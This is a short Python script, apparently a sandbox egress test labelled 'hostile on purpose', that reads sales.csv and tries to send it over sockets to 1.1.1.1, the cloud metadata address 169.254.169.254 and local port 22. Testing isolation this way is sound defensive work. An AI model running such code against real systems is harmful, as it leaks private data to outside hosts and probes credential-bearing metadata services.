# Hostile on purpose: tries to send the data out and to a local service. Only lo exists.
import socket
data = open("sales.csv", "rb").read()
for host, port in [("1.1.1.1", 80), ("169.254.169.254", 80), ("127.0.0.1", 22)]:
    s = socket.create_connection((host, port), timeout=1)
    s.sendall(data)
